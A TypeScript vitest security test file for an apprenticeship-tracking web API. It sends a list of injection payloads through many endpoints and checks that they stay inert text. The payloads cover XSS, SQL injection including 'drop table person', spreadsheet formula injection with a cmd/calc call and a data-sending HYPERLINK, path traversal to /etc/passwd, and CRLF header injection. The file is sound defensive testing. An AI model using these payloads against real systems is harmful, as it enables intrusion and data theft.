import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type Attack, draft, openAttack } from './attack.ts'

let attack: Attack
beforeAll(async () => {
  attack = await openAttack()
})
afterAll(() => attack?.close())

/** Text that is harmless only where it stays text. */
const payloads = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; drop table person; --",
  "' or '1'='1",
  '$1; select pg_sleep(9)',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("http://example.org?"&A1)',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '＝1+1',
  '{{7*7}}#{7*7}',
  '../../etc/passwd',
  '%0d%0aSet-Cookie: a=b',
  'line\r\nSet-Cookie: a=b',
  '","=1+1","',
  '</title><svg/onload=alert(1)>',
  '{"version":9,"state":"signed"}',
  '\\"; \\u0022',
] as const

const fieldsWith = (payload: string) => {
  const { t1, mentor1, manager, administrator, tutor, organisations, programme } = attack.scene.world
  const { waiting, signed } = attack
  const entries = `/trainees/${t1.id}/off-the-job/entries`
  const none = { ukprn: null, levyPayer: null, partOf: organisations.system }
  return [
    {
      method: 'POST',
      path: entries,
      as: t1,
      body: {
        ...draft,
        activity: payload,
        learned: payload,
        moduleCode: payload.slice(0, 50),
        ksbs: [payload.slice(0, 50)],
        submit: false,
      },
    },
    {
      method: 'POST',
      path: entries,
      as: t1,
      body: { ...draft, category: payload.slice(0, 50), submit: false },
    },
    {
      method: 'POST',
      path: `${entries}/${waiting.id}/return`,
      as: mentor1,
      body: { reason: payload },
      headers: { 'If-Match': '"1"' },
    },
    { method: 'POST', path: `${entries}/${signed.id}/reversals`, as: t1, body: { reason: payload } },
    {
      method: 'POST',
      path: '/organisations',
      as: administrator,
      body: { kind: 'employer', name: payload, ...none },
    },
    {
      method: 'POST',
      path: `/programmes/${programme.programme}/cohorts`,
      as: tutor,
      body: { title: payload, startsOn: '2022-09-05', plannedEndOn: '2024-09-02' },
    },
    {
      method: 'POST',
      path: `/trainees/${t1.id}/employments`,
      as: manager,
      body: { post: payload, band: 3, weeklyMinutes: 2250, wte: 1, startsOn: '2022-05-02' },
    },
    { method: 'POST', path: '/session', body: { email: payload, password: payload } },
    { method: 'POST', path: '/reset-requests', body: { email: payload } },
    {
      method: 'POST',
      path: '/people',
      as: manager,
      body: {
        givenName: payload,
        familyName: payload,
        email: payload,
        organisationId: organisations.employer1,
        roles: ['manager'],
        startsOn: '2022-05-11',
        endsOn: null,
        mentor: null,
      },
    },
    { method: 'GET', path: `/trainees?search=${encodeURIComponent(payload)}`, as: tutor },
    { method: 'GET', path: `/people?search=${encodeURIComponent(payload)}`, as: manager },
    { method: 'GET', path: `/organisations?search=${encodeURIComponent(payload)}`, as: administrator },
  ]
}

describe('text that would do harm elsewhere', () => {
  test.each(payloads)('stays text: %s', async (payload) => {
    for (const shot of fieldsWith(payload)) {
      const answer = await attack.shoot(shot)
      expect(answer.status, `${shot.path}: ${answer.text}`).toBeLessThan(500)
      expect(answer.headers['content-type']).toMatch(/^application\/(problem\+)?json/)
      expect(answer.headers['set-cookie']).toBeUndefined()
      if (answer.status === 201 && shot.body && 'activity' in shot.body && shot.body.activity === payload)
        expect(answer.body).toMatchObject({ activity: payload, learned: payload, state: 'draft', version: 1 })
    }
  })

  test('comes out of the log as cells that no spreadsheet works out', async () => {
    const { t1 } = attack.scene.world
    const answer = await attack.shoot({
      method: 'GET',
      path: `/trainees/${t1.id}/off-the-job/entries.csv`,
      as: t1,
    })
    expect(answer.status).toBe(200)
    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/)
    const rows = parse(answer.text, { bom: true }) as string[][]
    expect(rows.length).toBeGreaterThan(payloads.length)
    expect(new Set(rows.map((row) => row.length)).size).toBe(1)
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))).toEqual([])
    const written = rows.map((row) => row[2])
    for (const payload of payloads)
      expect(
        written.some((cell) => cell === payload || cell === `'${payload}`),
        payload,
      ).toBe(true)
  })

  test('leaves every table and everyone in it', async () => {
    const [found] = await attack.scene.rows<{ people: number }>('select count(*)::int as people from person')
    expect(found?.people).toBeGreaterThanOrEqual(15)
  })
})
